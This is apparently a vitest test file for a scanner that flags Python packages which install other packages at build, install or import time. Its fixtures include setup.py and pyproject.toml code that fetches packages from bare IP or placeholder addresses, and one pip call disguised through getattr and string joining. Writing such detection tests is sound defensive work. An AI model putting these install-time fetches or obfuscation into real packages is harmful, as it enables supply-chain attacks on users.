import { expect, test } from 'vitest';
import type { Finding } from '../../../src/analysis/report/finding.ts';
import { inspect, python, sdist, wheel } from '../../support/inspect.ts';

test('an undeclared project that setup.py installs is suspicious', async () => {
  const file = sdist({
    'setup.py': python(
      'import os',
      'from setuptools import setup',
      "os.system('pip install helper-of-the-helper')",
      "setup(name='example')",
    ),
  });

  expect(await inspect('foreign-install', file)).toMatchObject([
    { class: 'suspicious', score: 4.5, context: 'install', path: 'example-1.0.0/setup.py', line: 3 },
  ]);
});

test('an install from an address weighs more than one by name', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import subprocess, sys',
      "subprocess.run([sys.executable, '-m', 'pip', 'install', 'git+https://code.tools.invalid/x.git'])",
    ),
  });

  expect(await inspect('foreign-install', file)).toMatchObject([
    { class: 'suspicious', score: 8, context: 'import', path: 'pkg/__init__.py', line: 2 },
  ]);
});

test('a build that fetches numpy first stays below quarantine', async () => {
  const file = sdist({
    'setup.py': python(
      'import subprocess, sys',
      "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'numpy'])",
      'from setuptools import setup',
      "setup(name='example')",
    ),
  });

  expect(await inspect('foreign-install', file)).toMatchObject([{ score: 2 }]);
});

test('a function that installs an extra when a person calls it is silent', async () => {
  const file = wheel({
    'pkg/extras.py': python(
      'import subprocess, sys',
      'def add_plots():',
      "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'plots-of-pkg'])",
    ),
  });

  expect(await inspect('foreign-install', file)).toEqual([]);
});

test('a command put together from pieces and started through getattr is found', async () => {
  const file = sdist({
    'setup.py': python(
      'import os',
      'from setuptools import setup',
      "verb = ''.join(['in', 'stall'])",
      "run = getattr(os, 'sys' + 'tem')",
      "run('%s %s helper-of-the-helper' % ('p' + 'ip', verb))",
      "setup(name='example')",
    ),
  });

  expect(await inspect('foreign-install', file)).toMatchObject([
    { class: 'suspicious', score: 4.5, path: 'example-1.0.0/setup.py', line: 5 },
  ]);
});

test('a requirement of the build that stands at a bare address is malware', async () => {
  const project = (requirement: string): string =>
    `[build-system]\nrequires = ["setuptools", "${requirement}"]\nbuild-backend = "setuptools.build_meta"\n`;
  const astray = sdist({ 'pyproject.toml': project('helper @ http://203.0.113.7/helper.whl'), 'pkg/__init__.py': '' });
  const named = sdist({ 'pyproject.toml': project('wheel>=0.40'), 'pkg/__init__.py': '' });

  expect(await inspect('foreign-install', astray)).toMatchObject([
    { class: 'malware', score: 10, context: 'install', path: 'example-1.0.0/pyproject.toml', line: 2 },
  ]);
  expect(await inspect('foreign-install', named)).toEqual([]);
});

test('a front end of builds installs what it is told to', async () => {
  const file = sdist({
    'setup.py': python(
      'import subprocess, sys, tempfile',
      'from setuptools import setup',
      'def install(requirements):',
      "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--prefix', tempfile.mkdtemp()] + list(requirements))",
      'install(wanted)',
      "setup(name='example')",
    ),
  });

  expect(await inspect('foreign-install', file)).toMatchObject([{ score: 2 }]);
});

test('a requirement of setup() by its address is suspicious where no index or code host stands behind it', async () => {
  const needs = (requirement: string): string =>
    python('from setuptools import setup', `setup(name='example', install_requires=[${requirement}])`);
  const inspected = async (requirement: string): Promise<unknown> =>
    inspect('foreign-install', sdist({ 'setup.py': needs(requirement) }));

  expect(await inspected("'colours @ https://files.colours.invalid/c-1.0.tar.gz'")).toMatchObject([
    { class: 'suspicious', score: 7, context: 'install', line: 2 },
  ]);
  expect(await inspected("'colours @ ' + 'http://' + '203.0.113.7/c.whl'")).toMatchObject([{ class: 'malware' }]);
  expect(await inspected("'colours>=1', 'lib @ git+https://github.com/example/lib@v1'")).toEqual([]);
});

test('a requirements file that setup.py reads counts as what it lists', async () => {
  const file = sdist({
    'setup.py': python(
      'from setuptools import setup',
      "setup(name='example', install_requires=open('requirements.txt').read().splitlines())",
    ),
    'requirements.txt': 'colours\nhttps://files.colours.invalid/packages/c-1.0.tar.gz\n',
  });

  expect(await inspect('foreign-install', file)).toMatchObject([{ class: 'suspicious', score: 7, line: 2 }]);
});

test('a page of wheels to look through is no requirement', async () => {
  const file = sdist({
    'setup.py': python(
      'from setuptools import setup',
      "setup(name='example', dependency_links=['https://wheels.example.invalid/cu118'])",
    ),
  });

  expect(await inspect('foreign-install', file)).toEqual([]);
});

test('links that installers do not follow any more say less than a requirement at an address', async () => {
  const needing = (what: string): Promise<readonly Finding[]> =>
    inspect(
      'foreign-install',
      sdist({ 'setup.py': python('from setuptools import setup', `setup(name='example', ${what})`) }),
    );

  expect(await needing("dependency_links=['https://get.vendor.invalid/base-1.0.tar.gz']")).toMatchObject([
    { score: 3 },
  ]);
  expect(await needing("install_requires=['base @ https://get.vendor.invalid/base-1.0.tar.gz']")).toMatchObject([
    { score: 7 },
  ]);
});
